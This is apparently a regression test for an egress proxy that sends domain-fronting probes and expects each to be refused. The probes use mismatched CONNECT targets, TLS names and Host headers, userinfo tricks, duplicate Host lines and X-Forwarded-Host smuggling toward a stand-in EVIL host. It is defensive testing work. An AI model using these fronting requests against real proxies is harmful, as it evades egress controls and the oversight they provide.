// Domain fronting in every layer: CONNECT, TLS name, Host. Source: gh-aw #62547, CVE-2026-48491, CVE-2026-32305 (Traefik).
import { forEachTier } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

forEachTier('destination, TLS name and Host must be the same name', async (tier) => {
  await using box = new EgressBox(tier);
  const result = await box.probe(`
def proxied(authority, sni, request):
    link = socket.create_connection(port_in('http_proxy'), 5)
    link.sendall(f'CONNECT {authority} HTTP/1.1\\r\\nHost: {authority}\\r\\n\\r\\n'.encode())
    first = link.recv(4096)
    if b' 200 ' not in first: return first
    context = ssl.create_default_context(); context.check_hostname = False
    with context.wrap_socket(link, server_hostname=sni) as tls:
        tls.sendall(request)
        return drain(tls)
def tried(name, *args):
    try: show(name, proxied(*args))
    except ssl.SSLError as error: report(name, f'TLS {error.reason}')
    except OSError as error: report(name, reason(error))
get = lambda host: head('GET', '/v1/models', (OWN, 'Connection: close'), host)
tried('connect-evil', f'{EVIL}:443', LLM, get(LLM))
tried('sni-evil', f'{LLM}:443', EVIL, get(LLM))
tried('sni-other', f'{LLM}:443', OTHER, get(OTHER))
tried('host-evil', f'{LLM}:443', LLM, get(EVIL))
tried('host-other', f'{LLM}:443', LLM, get(OTHER))
tried('host-port', f'{LLM}:443', LLM, get(LLM + ':8443'))
tried('other-host-llm', f'{OTHER}:443', OTHER, get(LLM))
raw('direct-host', get(OTHER))
raw('direct-sni', get(LLM), sni=OTHER)
raw('two-hosts', head('GET', '/v1/models', (f'Host: {OTHER}', OWN)))
raw('absolute', head('GET', f'https://{OTHER}/', (OWN,)))
raw('absolute-same', head('GET', f'https://{LLM}/v1/models', (OWN,)))
raw('connect-inside', head('CONNECT', f'{EVIL}:443', (), f'{EVIL}:443'))
raw('no-host', b'GET /v1/models HTTP/1.1\\r\\n' + OWN.encode() + b'\\r\\n\\r\\n')
raw('host-trick', head('GET', '/v1/models', (OWN,), f'{LLM}@{EVIL}'))
raw('forwarded', head('GET', '/v1/files', (OWN, f'X-Forwarded-Host: {EVIL}', 'X-Original-URL: /v1/models', 'Connection: close')))
control()
`);
  box.expectHeld(result, {
    'connect-evil': '403 default.deny',
    'sni-evil': 'TLS',
    'sni-other': 'TLS',
    'host-evil': '421 structural.host-mismatch',
    'host-other': '421 structural.host-mismatch',
    'host-port': '421 structural.host-mismatch',
    'other-host-llm': '421 structural.host-mismatch',
    'direct-host': '421 structural.host-mismatch',
    'direct-sni': 'TLS',
    'two-hosts': '400 structural.malformed',
    absolute: '400 structural.malformed',
    'absolute-same': '400 structural.malformed',
    'connect-inside': '405 structural.malformed',
    'no-host': '400 structural.malformed',
    'host-trick': '400 structural.malformed',
    forwarded: '403 llm',
  });
});
